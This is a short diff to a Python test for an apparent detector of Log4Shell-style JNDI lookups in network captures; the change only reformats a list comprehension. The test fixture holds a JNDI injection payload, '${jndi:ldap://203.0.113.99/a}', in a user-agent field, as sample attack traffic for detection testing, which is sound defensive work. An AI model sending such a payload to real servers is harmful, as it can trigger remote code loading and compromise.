@@ -93,7 +93,11 @@ def test_on_a_published_capture(loaded: Any) -> None:
 
 def test_high_where_the_server_tried_to_connect() -> None:
     row = there(dst_port=80, method="GET", uri="/", user_agent="${jndi:ldap://203.0.113.99/a}")
-    syn = [packet for packet in rows.session(7, client=rows.SERVER, server="203.0.113.99", port=389, at=2.0) if packet["flags"] == 0x02]
+    syn = [
+        packet
+        for packet in rows.session(7, client=rows.SERVER, server="203.0.113.99", port=389, at=2.0)
+        if packet["flags"] == 0x02
+    ]
     found = drafts(jndi_lookups, rows.sessions(syn, http=family("http", row)))
     assert [(d.priority, d.confidence) for d in found] == [("high", "medium")]
     assert "port 389 (no answer)" in found[0].summary
